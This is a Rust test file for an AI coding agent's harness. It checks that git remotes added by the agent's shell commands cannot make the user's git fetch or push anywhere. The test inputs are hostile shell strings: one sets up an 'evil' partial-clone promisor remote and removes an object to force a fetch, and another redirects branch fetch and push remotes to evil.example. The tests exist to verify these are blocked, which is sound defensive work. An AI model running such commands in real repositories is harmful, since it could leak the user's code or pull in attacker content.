//! Remotes that a command adds to the repository: the user's git connects to none of them without being told to.

use super::git::start;
use super::is_full;
use crate::grants::call;
use serde_json::json;
use std::io::{ErrorKind, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

/// Runs git as the user does.
fn git(root: &Path, words: &[&str]) -> String {
    let mut git = Command::new("git");
    git.args(words).current_dir(root).env("GIT_TERMINAL_PROMPT", "0");
    let output = git.output().unwrap();
    String::from_utf8_lossy(&[output.stdout, output.stderr].concat()).into_owned()
}

/// Whether somebody has connected. Answers them, so that nobody waits.
fn was_called(listener: &TcpListener) -> bool {
    match listener.accept() {
        Ok((mut stream, _)) => {
            let _ = stream.set_nonblocking(false);
            let _ = stream.read(&mut [0; 1000]);
            let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
            true
        }
        Err(fault) => {
            assert_eq!(fault.kind(), ErrorKind::WouldBlock);
            false
        }
    }
}

#[test]
fn the_user_s_git_fetches_nothing_from_a_remote_that_a_command_has_added() {
    if !is_full() {
        return;
    }
    let scene = start();
    let root = scene.nvim.setup.path("");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/secret", listener.local_addr().unwrap());
    let line = format!(
        "git remote add evil {url}; git config extensions.partialClone evil; git config remote.evil.promisor true; \
        git config remote.evil.partialCloneFilter blob:none; \
        id=$(git rev-parse HEAD:AGENTS.md); mv .git/objects/$(echo $id | sed 's,^..,&/,') $TMPDIR/; echo x >> a.txt; \
        echo done"
    );
    let (said, was_asked) = call(&scene, "shell", json!({ "command": line }), "");
    assert!(!was_asked && said.contains("done"), "{said}");
    for it in ["extensions.partialclone", "remote.evil.promisor", "remote.evil.partialclonefilter"]
    {
        assert!(said.contains(&format!("was not changed ({it})")), "{said}");
    }
    // a git that connects would wait for an answer
    let waiting = std::thread::scope(|scope| {
        let user = scope.spawn(|| {
            git(&root, &["status"])
                + &git(&root, &["show", "HEAD"])
                + &git(&root, &["fetch", "--all"])
        });
        let mut was = false;
        while !user.is_finished() {
            was |= was_called(&listener);
            std::thread::yield_now();
        }
        (was || was_called(&listener), user.join().unwrap())
    });
    assert!(!waiting.0, "{}", waiting.1);
}

#[test]
fn the_user_is_told_of_a_new_remote_and_no_later_conversation_leads_a_branch_there() {
    if !is_full() {
        return;
    }
    let scene = start();
    let root = scene.nvim.setup.path("");
    assert_eq!(git(&root, &["remote", "add", "origin", "https://a.org/b.git"]), "");
    let line = "git remote add up https://evil.example/x.git; git branch topic; git config branch.topic.remote up";
    let (said, _) = call(&scene, "shell", json!({ "command": line }), "");
    assert!(!said.contains("was not changed"), "{said}");
    scene.nvim.wait_transcript(
        "A command added a remote to the repository: `up` (`https://evil.example/x.git`).",
    );
    assert_eq!(git(&root, &["config", "remote.up.skipFetchAll"]), "true\n");
    scene.nvim.keys("<Esc>:Caliban new second<CR>");
    scene.nvim.wait_session("second");
    let line = "git config branch.main.remote up; git config branch.main.pushRemote up; \
        git config --unset remote.up.skipFetchAll; git fetch -q --all; git branch -m topic topic2; echo done";
    let (said, _) = call(&scene, "shell", json!({ "command": line }), "");
    assert_eq!(said.matches("was not changed").count(), 3, "{said}");
    let listed = git(&root, &["config", "--list"]);
    assert!(
        !listed.contains("branch.main.") && listed.contains("branch.topic2.remote=up"),
        "{listed}"
    );
    let (said, _) =
        call(&scene, "shell", json!({ "command": "git remote remove up; git remote" }), "");
    assert!(said.contains("origin") && !said.contains("up"), "{said}");
}
